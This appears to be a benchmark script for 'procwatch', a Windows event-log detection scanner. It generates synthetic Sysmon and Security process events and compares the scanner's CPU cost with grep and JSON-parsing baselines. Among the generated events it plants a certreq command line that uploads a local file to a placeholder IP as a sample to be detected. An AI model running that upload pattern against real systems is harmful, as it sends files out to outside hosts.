/**
 * Scan with correlation at work: a generated evtx_dump JSONL file (`evtx_dump -o jsonl`, one event per line) of
 * process activity — Sysmon 1/3/5/11/22 and Security 4688/4689, PIDs reused many times per host, one process in
 * 300 a certreq upload — so that every alert needs a tree, a lifetime and evidence from a large process index.
 * Beside it, in the same run and on the same file: `grep -c -i certreq`, a Node `JSON.parse` loop and a Python
 * `json.loads` loop doing only the seed check (the floor for any JSON decoder).
 *
 * The machine is shared: figures are CPU seconds (user + sys, from GNU time), not wall time, and the ratios
 * between rows of one run are what to compare. Env: PROCWATCH_BENCH_CONTEXT_EVENTS (default 300,000).
 */
import { createWriteStream, existsSync, statSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { join } from 'node:path';
import { dataDir, fmt, REPO } from './lib.js';
import { spawnSync } from 'node:child_process';

export const EVENTS = Number(process.env['PROCWATCH_BENCH_CONTEXT_EVENTS'] ?? 300_000);
const SYSMON = { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' };
const SECURITY = { Name: 'Microsoft-Windows-Security-Auditing', Guid: '54849625-5478-4994-A5BA-3E3B0328C30D' };
const IMAGES = [
  ['C:\\Windows\\System32\\cmd.exe', 'Cmd.Exe', 'cmd.exe /c "dir C:\\Users\\Public > C:\\Temp\\out.txt"'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'PowerShell.EXE', 'powershell.exe -NoProfile -File C:\\scripts\\inventory.ps1'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'],
  ['C:\\Windows\\System32\\conhost.exe', 'CONHOST.EXE', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
] as const;
const CERTREQ = ['C:\\Windows\\System32\\certreq.exe', 'CertReq.exe', 'certreq -Post -config https://198.51.100.7/upload C:\\Windows\\win.ini C:\\Users\\Public\\resp.txt'] as const;

/** One process's events, in time order: its start, one piece of evidence, its end (and 4688/4689 twins for one in four). */
function processEvents(p: number, record: () => number): string[] {
  const hostNo = p % 20;
  const host = `WS${String(hostNo).padStart(2, '0')}.corp.example`;
  // 1,500 PIDs per host: each is reused ~40 times in 300k events, as on a long-running busy host.
  const pid = 1000 + 4 * (Math.floor(p / 20) % 1500);
  const guid = `0C2F7D31-${(p % 65536).toString(16).padStart(4, '0').toUpperCase()}-6632-${String(hostNo).padStart(4, '0')}-${String(p).padStart(12, '0')}`;
  const parentGuid = `0C2F7D31-5900-6632-0200-${String(hostNo).padStart(12, '0')}`;
  const [image, ofn, cmd] = p % 300 === 299 ? CERTREQ : IMAGES[p % IMAGES.length]!;
  const base = Date.UTC(2024, 4, 1) + p * 120;
  const at = (ms: number): string => new Date(base + ms).toISOString().replace('Z', '000Z');
  const utc = (ms: number): string => new Date(base + ms).toISOString().replace('T', ' ').slice(0, 23);
  const ev = (provider: typeof SYSMON, id: number, ms: number, channel: string, data: Record<string, unknown>): string =>
    JSON.stringify({
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': provider }, EventID: id, Version: 5, Level: 4, Task: id, Opcode: 0, Keywords: '0x8000000000000000',
          TimeCreated: { '#attributes': { SystemTime: at(ms) } }, EventRecordID: record(), Correlation: null,
          Execution: { '#attributes': { ProcessID: 1988, ThreadID: 2760 } }, Channel: channel, Computer: host,
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
        },
        EventData: data,
      },
    });
  const sysmon = (id: number, ms: number, data: Record<string, unknown>): string =>
    ev(SYSMON, id, ms, 'Microsoft-Windows-Sysmon/Operational', { RuleName: '-', UtcTime: utc(ms), ProcessGuid: guid, ProcessId: pid, ...data });
  const out = [
    sysmon(1, 0, {
      Image: image, FileVersion: '10.0.19041.1 (WinBuild.160101.0800)', Description: 'Windows process', Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation', OriginalFileName: ofn, CommandLine: cmd, CurrentDirectory: 'C:\\Users\\erin\\', User: 'CORP\\erin',
      LogonGuid: '3FC4FEFD-0C33-6632-3750-BA0000000000', LogonId: '0xba5037', TerminalSessionId: 1, IntegrityLevel: 'Medium',
      Hashes: 'SHA256=B99D114B267FFD068C3289199B6DF95C9BA7F4D0E8B0E3C3F5A1E2A6E8C4D2F1', ParentProcessGuid: parentGuid, ParentProcessId: 4212,
      ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ParentUser: 'CORP\\erin',
    }),
  ];
  if (p % 3 === 0) out.push(sysmon(3, 20, { Image: image, User: 'CORP\\erin', Protocol: 'tcp', Initiated: true, SourceIsIpv6: false, SourceIp: '10.0.4.21', SourceHostname: host, SourcePort: 49152 + (p % 10000), DestinationIsIpv6: false, DestinationIp: '198.51.100.7', DestinationHostname: '-', DestinationPort: 443 }));
  else if (p % 3 === 1) out.push(sysmon(22, 20, { QueryName: `cdn${p % 50}.example.net`, QueryStatus: '0', QueryResults: '::ffff:198.51.100.7;', Image: image, User: 'CORP\\erin' }));
  else out.push(sysmon(11, 20, { Image: image, TargetFilename: `C:\\Users\\Public\\out-${p % 100}.txt`, CreationUtcTime: utc(20), User: 'CORP\\erin' }));
  if (p % 4 === 0) {
    const sec = (id: number, ms: number, data: Record<string, unknown>): string => ev(SECURITY, id, ms, 'Security', data);
    const hex = `0x${pid.toString(16)}`;
    out.push(sec(4688, 2, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', NewProcessId: hex, NewProcessName: image, TokenElevationType: '%%1936', ProcessId: '0x106c', CommandLine: cmd, TargetUserSid: 'S-1-0-0', TargetUserName: 'erin', TargetDomainName: 'CORP', TargetLogonId: '0xba5037', ParentProcessName: 'C:\\Windows\\explorer.exe', MandatoryLabel: 'S-1-16-8192' }));
    out.push(sec(4689, 61, { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', Status: '0x0', ProcessId: hex, ProcessName: image }));
  }
  out.push(sysmon(5, 60, { Image: image, User: 'CORP\\erin' }));
  return out;
}

/** Writes the input (also used by sigma-scan.bench.ts: the SigmaHQ target is measured on the same file). */
export async function generate(path: string): Promise<void> {
  const out = createWriteStream(path);
  let record = 0;
  const next = (): number => ++record;
  let written = 0;
  let buf: string[] = [];
  for (let p = 0; written < EVENTS; p++) {
    for (const line of processEvents(p, next)) {
      if (written++ >= EVENTS) break;
      buf.push(line);
    }
    if (buf.length >= 4000) {
      if (!out.write(`${buf.join('\n')}\n`)) await once(out, 'drain');
      buf = [];
    }
  }
  if (buf.length) out.write(`${buf.join('\n')}\n`);
  out.end();
  await once(out, 'finish');
}

interface Cpu {
  cpu: number;
  wall: number;
  rssMb: number;
  status: number | null;
  stdout: string;
}

/** CPU seconds (user + sys) under GNU time; best of `repeat`. */
function cpuOf(argv: string[], repeat = 1, stdoutToNull = true): Cpu {
  let best: Cpu | undefined;
  for (let i = 0; i < repeat; i++) {
    const start = process.hrtime.bigint();
    const r = spawnSync('/usr/bin/time', ['-f', '__CPU=%U %S %M', ...argv], { encoding: 'utf8', maxBuffer: 1 << 28, stdio: ['ignore', stdoutToNull ? 'ignore' : 'pipe', 'pipe'] });
    const wall = Number(process.hrtime.bigint() - start) / 1e9;
    const m = /__CPU=([\d.]+) ([\d.]+) (\d+)/.exec(r.stderr ?? '');
    // GNU time counts in 10 ms steps: a faster run is reported as 0.01 s (a ratio to it is then a lower bound).
    const t: Cpu = { cpu: m ? Math.max(0.01, Number(m[1]) + Number(m[2])) : NaN, wall, rssMb: m ? Number(m[3]) / 1024 : NaN, status: r.status, stdout: r.stdout ?? '' };
    if (r.status !== 0) console.log(`${argv.join(' ')} exited ${r.status}: ${(r.stderr ?? '').slice(0, 300)}`);
    if (!best || t.cpu < best.cpu) best = t;
  }
  return best!;
}

const NODE_FLOOR = `
const { createReadStream } = require('node:fs');
(async () => {
  let rest = '', hits = 0;
  const dec = new TextDecoder();
  for await (const chunk of createReadStream(process.argv[1], { highWaterMark: 1 << 20 })) {
    const text = rest + dec.decode(chunk, { stream: true });
    let from = 0, nl;
    while ((nl = text.indexOf('\\n', from)) !== -1) {
      const ev = JSON.parse(text.slice(from, nl));
      const d = ev.Event.EventData;
      if (d && typeof d.CommandLine === 'string' && d.CommandLine.toLowerCase().includes('certreq')) hits++;
      from = nl + 1;
    }
    rest = text.slice(from);
  }
  console.log(hits);
})();`;

const PY_FLOOR = `
import json, sys
hits = 0
with open(sys.argv[1], 'rb') as f:
    for line in f:
        d = json.loads(line)['Event'].get('EventData') or {}
        c = d.get('CommandLine')
        if isinstance(c, str) and 'certreq' in c.lower():
            hits += 1
print(hits)`;

async function main(): Promise<void> {
  const file = join(dataDir(), `context-evtx-dump-${EVENTS}.jsonl`);
  if (!existsSync(file)) {
    console.log(`generating ${EVENTS.toLocaleString()} evtx_dump JSONL process events → ${file}`);
    await generate(file);
  }
  const py = join(dataDir(), 'json-loads-floor.py');
  writeFileSync(py, PY_FLOOR);
  const mb = statSync(file).size / 1e6;
  const cli = [process.execPath, join(REPO, 'bin', 'procwatch.js'), 'scan', file, '--format', 'jsonl', '--quiet', '--no-progress'];
  const rows: Array<[string, Cpu]> = [
    ['grep -c -i certreq', cpuOf(['grep', '-c', '-i', 'certreq', file], 2)],
    ['python3 json.loads loop', cpuOf(['python3', py, file])],
    ['node JSON.parse loop', cpuOf([process.execPath, '-e', NODE_FLOOR, file])],
    ['procwatch scan', cpuOf(cli, 2)],
    ['procwatch scan --fast', cpuOf([...cli, '--fast'])],
  ];
  const alerts = cpuOf(cli, 1, false).stdout.split('\n').filter((l) => l.trim() !== '').length;
  console.log(`input: ${EVENTS.toLocaleString()} events, ${fmt(mb)} MB (evtx_dump JSONL; ${alerts} alerts)`);
  console.log('tool                         CPU s   events/CPU s   wall s   peak RSS MB');
  for (const [name, t] of rows) {
    console.log(`${name.padEnd(26)} ${fmt(t.cpu, 2).padStart(7)} ${fmt(EVENTS / t.cpu, 0).padStart(14)} ${fmt(t.wall, 1).padStart(8)} ${fmt(t.rssMb, 0).padStart(13)}`);
  }
  const cpu = (name: string): number => rows.find(([n]) => n === name)![1].cpu;
  const scan = cpu('procwatch scan');
  console.log(`ratio (CPU): scan = ${fmt(scan / cpu('node JSON.parse loop'), 2)}× the node JSON.parse loop, ${fmt(scan / cpu('python3 json.loads loop'), 2)}× the python json.loads loop, ${fmt(scan / cpu('grep -c -i certreq'), 1)}× grep`);
}

// Run when executed (sigma-scan.bench.ts imports the generator).
if (process.argv[1]?.endsWith('scan-context.bench.ts')) await main();
